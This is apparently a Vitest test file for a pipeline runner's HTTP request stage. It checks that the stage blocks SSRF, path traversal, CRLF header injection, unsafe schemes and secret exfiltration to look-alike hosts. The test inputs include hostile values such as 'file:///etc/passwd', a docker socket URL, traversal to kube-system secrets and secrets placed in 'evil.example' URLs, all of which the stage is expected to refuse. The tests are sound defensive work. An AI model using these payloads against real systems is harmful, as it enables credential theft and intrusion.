import { type Json, Run, RunEvent } from '@flowmason/pipeline-schema';
import { afterAll, afterEach, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { startService, type TestService } from '../effects/http-services.test-support.ts';
import { startApi, type TestApi } from './api.test-support.ts';

let api: TestApi;
let service: TestService;
beforeAll(async () => {
  service = await startService((_, res) => res.writeHead(200, { 'Content-Type': 'application/json' }).end('{}'));
  api = await startApi();
});
afterEach(() => service.forget());
afterAll(async () => {
  await api.close();
  await service.close();
});

type Start = { readonly input?: Json; readonly profile?: object; readonly secrets?: Record<string, string> };

/** A profile that leads every https address to the service. */
function toService() {
  return { http: { rewrite: [{ match: 'https://*', to: service.url }] } };
}

/** Runs one `http_request` stage to its end, and gives the run with its events. */
async function call(config: Readonly<Record<string, Json>>, start: Start = {}) {
  const document = { name: 'call', version: '1', stages: [{ id: 'call', component: 'http_request', config }] };
  const answer = await api.post('/api/v1/runs', { document, ...start });
  const { id } = Run.parse(await answer.json());
  await (await api.get(`/api/v1/runs/${id}/events`, { Accept: 'text/event-stream' })).text(); // ends with the run
  const run = Run.parse(await (await api.get(`/api/v1/runs/${id}`)).json());
  const events = RunEvent.array().parse(await (await api.get(`/api/v1/runs/${id}/events`)).json());
  return { run, events, error: run.stages['call']?.error };
}

describe('a pipeline that calls its own runner', () => {
  it('fails with SECURITY, and is told of subpipelines', async () => {
    const { error } = await call({ url: `${api.url.replace('127.0.0.1', 'localhost')}/api/v1/health` });
    expect(error).toMatchObject({
      type: 'SECURITY',
      retryable: false,
      message: expect.stringContaining('is this runner itself. To run another pipeline, use a subpipeline stage'),
    });
  });

  it('is refused also where a profile leads there', async () => {
    const profile = { http: { rewrite: [{ match: 'https://api.example', to: api.url }] } };
    expect((await call({ url: 'https://api.example/' }, { profile })).error).toMatchObject({ type: 'SECURITY' });
  });

  it('may call every other service of the machine', async () => {
    expect((await call({ url: `${service.url}/x` })).run.status).toBe('succeeded');
  });
});

describe('a value in a URL', () => {
  it.each([
    'evil.example/x?',
    'evil.example/',
    'evil.example#',
    'evil.example?',
    'evil.example\\',
    'evil.example:80',
    'user@evil.example',
    'user:pass@evil.example/',
    '127.0.0.1:80/',
    '[::1]',
    '',
    ' ',
    '.',
    '..',
    'a..b',
    'a b',
    'a\tb',
    'a\nb',
    'a\u0000b',
    'ä',
    'ｅvil',
    '%2f',
    'evil%2eexample',
    'a/b',
  ])('does not change the host: %j', async (x) => {
    const { error } = await call(
      { url: 'https://{{input.x}}.internal/health' },
      { input: { x }, profile: toService() },
    );
    expect([error?.type, service.received]).toEqual(['EXPRESSION', []]);
  });

  it.each(['80@evil.example', '80/x', '0x50', '-1', '99999', '', ' 80', '8 0', '80#', '80?'])(
    'does not change what follows the port: %j',
    async (x) => {
      const { error } = await call(
        { url: 'https://api.internal:{{input.x}}/' },
        { input: { x }, profile: toService() },
      );
      expect([error?.type, service.received]).toEqual(['EXPRESSION', []]);
    },
  );

  it.each([
    ['a/b', '/v1/a%2Fb/scale'],
    ['a?b', '/v1/a%3Fb/scale'],
    ['a#b', '/v1/a%23b/scale'],
    ['a b', '/v1/a%20b/scale'],
    ['ä', '/v1/%C3%A4/scale'],
    ['...', '/v1/.../scale'],
    ['a;b=c', '/v1/a%3Bb%3Dc/scale'],
    ['@', '/v1/%40/scale'],
    [':', '/v1/%3A/scale'],
  ])('stays one segment of the path: %j', async (x, path) => {
    await call({ url: 'https://k8s.internal/v1/{{input.x}}/scale' }, { input: { x }, profile: toService() });
    expect(service.received.map(({ url }) => url)).toEqual([path]);
  });

  it.each([
    '..',
    '.',
    '../../secrets',
    '../../../../../api/v1/namespaces/kube-system/secrets',
    'a/../b',
    '..\\..',
    '%2e%2e',
    '..%2f..',
    '',
  ])('does not leave its segment: %j', async (x) => {
    const url = 'https://k8s.internal/apis/deployments/{{input.x}}/scale';
    const { error } = await call({ url }, { input: { x }, profile: toService() });
    expect([error?.type, service.received]).toEqual(['EXPRESSION', []]);
  });

  it.each([
    'file:///etc/passwd',
    'ftp://files.example',
    'gopher://x:1/_',
    'unix:/run/docker.sock',
    'javascript:1',
    'data:,x',
    '//evil.example',
    'evil.example',
    'http:evil.example',
    'http:\\\\evil.example',
    'http://user:pass@evil.example',
    'http://evil.example\\@api.internal',
    'http://a b',
    ' http://a',
    'http://a/../b',
    'http://a/x?swallow=',
    'http://a/#',
    'http://',
    '',
  ])('that is the base is a plain address, or refused: %j', async (base) => {
    const { error } = await call({ url: '{{input.base}}/health' }, { input: { base }, profile: toService() });
    expect([error?.type, service.received]).toEqual(['EXPRESSION', []]);
  });

  it('that is the base goes only where the profile allows', async () => {
    const allow = ['https://api.internal'];
    const profile = { http: { allow, rewrite: [{ match: 'https://*', to: service.url }] } };
    const { error } = await call({ url: '{{input.base}}/x' }, { input: { base: 'https://evil.example' }, profile });
    expect([error?.type, service.received]).toEqual(['SECURITY', []]);
  });
});

describe('a header or method', () => {
  const CANARY = 'canary-7f3a9c51';

  it.each(['Host', 'host', 'Content-Length', 'Transfer-Encoding', 'Connection', 'Upgrade', 'TE', 'Trailer', 'Expect'])(
    'that the client sets itself is refused: %s',
    async (name) => {
      const { error } = await call({ url: service.url, headers: { [name]: '{{input.x}}' } }, { input: { x: CANARY } });
      expect([error?.type, service.received]).toEqual(['VALIDATION', []]);
      expect(error?.message).not.toContain(CANARY);
    },
  );

  it.each([
    `${CANARY}\r\nX-Admin: 1`,
    `${CANARY}\n`,
    `${CANARY}\r`,
    `${CANARY}\u0000`,
    `${CANARY}\u2028`,
    `${CANARY}嚊`,
  ])('with a value that would be more than one line is refused, and not repeated: %j', async (x) => {
    const secret = await call({ url: service.url, headers: { 'X-Key': '{{secrets.KEY}}' } }, { secrets: { KEY: x } });
    const { error } = await call({ url: service.url, headers: { 'X-Key': '{{input.x}}' } }, { input: { x } });
    expect([secret.error?.type, error?.type, service.received]).toEqual(['VALIDATION', 'VALIDATION', []]);
    expect(JSON.stringify(secret.events)).not.toContain(CANARY);
  });

  it.each(['X Y', 'X:Y', 'X\r\nY', '', 'Ä', '(X)'])('with a name that is none is refused: %j', async (name) => {
    const stages = [{ id: 'call', component: 'http_request', config: { url: service.url, headers: { [name]: 'x' } } }];
    const { status } = await api.post('/api/v1/runs', { document: { name: 'call', version: '1', stages } });
    expect([status, service.received]).toEqual([422, []]);
  });

  it.each(['GET / HTTP/1.1\r\nX: y', 'TRACE', 'CONNECT', 'get\u0000', ''])(
    'of another kind is refused: %j',
    async (x) => {
      const { error } = await call({ url: service.url, method: '{{input.x}}' }, { input: { x } });
      expect([error?.type, service.received]).toEqual(['VALIDATION', []]);
    },
  );
});

describe('a secret that is bound to https://api.example', () => {
  const KEY = 'key+of/the=api-9d2c';
  const start = (): Start => ({
    secrets: { KEY },
    profile: {
      http: { rewrite: [...toService().http.rewrite, { match: 'http://*', to: service.url }] },
      secrets: { hosts: { KEY: ['https://api.example'] } },
    },
  });

  it.each(['https://api.example/x', 'https://API.Example/x', 'https://api.example:443/x'])(
    'goes to %s',
    async (url) => {
      await call({ url, headers: { Authorization: 'Bearer {{secrets.KEY}}' } }, start());
      expect(service.received.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${KEY}`]);
    },
  );

  it.each([
    'https://api.example.attacker.net/',
    'https://notapi.example/',
    'https://api-example/',
    'https://apixexample/',
    'https://sub.api.example/',
    'https://example/',
    'https://api.example./',
    'https://api.example:8443/',
    'https://api.example:80/',
    'http://api.example/',
    'http://api.example:443/',
    'https://api.example@evil.example/',
    'https://evil.example/api.example',
    'https://evil.example?https://api.example',
    'https://evil.example#https://api.example',
    'https://evil.example/https://api.example/',
    'https://api.example%2eattacker.net/',
    'https://api.example\uff0eattacker.net/',
    'https://api.example\u3002attacker.net/',
    'https://xn--api-example.attacker.net/',
    'https://[::1]/',
    'https://127.0.0.1/',
  ])('does not go to %s', async (url) => {
    const { error } = await call({ url, headers: { Authorization: 'Bearer {{secrets.KEY}}' } }, start());
    expect([error?.type, service.received]).toEqual([expect.stringMatching(/^(SECURITY|VALIDATION|EXPRESSION)$/), []]);
  });

  it.each([
    ['a header', { headers: { 'X-Key': '{{secrets.KEY}}' } }],
    ['a header, as Basic', { headers: { Authorization: "Basic {{ ('me:' ~ secrets.KEY) | b64encode }}" } }],
    ['the query', { query_params: { key: '{{secrets.KEY}}' } }],
    ['the path', { url: 'https://evil.example/{{secrets.KEY}}' }],
    ['a text body', { method: 'POST', body: 'key={{secrets.KEY}}' }],
    ['a JSON body', { method: 'POST', body: { deep: [{ key: '{{secrets.KEY}}' }] } }],
    ['a key of a JSON body', { method: 'POST', body: '{"{{secrets.KEY}}":1}' }],
    [
      'a form',
      {
        method: 'POST',
        headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
        body: { k: '{{secrets.KEY}}' },
      },
    ],
  ])('does not go elsewhere in %s', async (_, config) => {
    const { error } = await call({ url: 'https://evil.example/x', ...config }, start());
    expect([error?.type, service.received]).toEqual(['SECURITY', []]);
  });
});

describe('a request with a bound secret that is redirected to another host', () => {
  it('is followed there without the secret', async () => {
    const KEY = 'key+of/the=api-9d2c';
    const other = service.url.replace('127.0.0.1', 'localhost');
    const gateway = await startService((_, res) => res.writeHead(302, { Location: `${other}/file` }).end());
    onTestFinished(() => gateway.close());
    const { run } = await call(
      {
        url: `${gateway.url}/releases/{{secrets.KEY}}`,
        headers: { Authorization: 'Bearer {{secrets.KEY}}', Accept: '{{secrets.KEY}}' },
        follow_redirects: true,
      },
      { secrets: { KEY }, profile: { secrets: { hosts: { KEY: [gateway.url] } } } },
    );
    expect(run.stages['call']).toMatchObject({
      status: 'succeeded',
      output: { status_code: 200, url: `${gateway.url}/releases/[secret:KEY]` },
    });
    expect(gateway.received.map(({ headers }) => headers.authorization)).toEqual([`Bearer ${KEY}`]);
    expect(service.received.map(({ url }) => url)).toEqual(['/file']);
    expect(JSON.stringify(service.received)).not.toContain(KEY);
  });
});

describe('a secret that goes where data says', () => {
  const base = 'https://k8s.internal';
  const headers = { Authorization: 'Bearer {{secrets.TOKEN}}' };
  const secrets = { TOKEN: 'token-of-the-cluster' };
  const warningsOf = (events: readonly RunEvent[]) =>
    events.flatMap((event) =>
      event.type === 'warning' && event.code === 'secret_to_data_host' ? [event.message] : [],
    );

  it.each([
    ['the base of the URL', '{{input.base}}/apis'],
    ['the host of the URL', 'https://{{input.host}}/apis'],
    ['a default', '{{ env.BASE | default(input.base) }}/apis'],
  ])('is warned of when it is %s', async (_, url) => {
    const input = { base, host: 'k8s.internal' };
    const { events } = await call({ url, headers }, { input, secrets, profile: toService() });
    expect(warningsOf(events)).toEqual([
      'config.url: data decides which host gets the secret TOKEN, and nothing limits where that may be. Bind it to hosts, or write the host into the pipeline',
    ]);
    expect(service.received).toHaveLength(1);
  });

  it.each([
    ['the author wrote the host', { url: `${base}/{{input.base | urlencode}}`, headers }, {}],
    ['the profile has the address', { url: '{{env.BASE}}/x', headers }, { env: { BASE: base } }],
    ['the secret is the address', { url: '{{secrets.TOKEN}}' }, {}],
    ['no secret is sent', { url: '{{input.base}}/x' }, {}],
    ['the secret is bound', { url: '{{input.base}}/x', headers }, { secrets: { hosts: { TOKEN: [base] } } }],
  ])('is not warned of when %s', async (_, config, rest) => {
    const { events } = await call(config, { input: { base }, secrets, profile: { ...toService(), ...rest } });
    expect(warningsOf(events)).toEqual([]);
  });
});
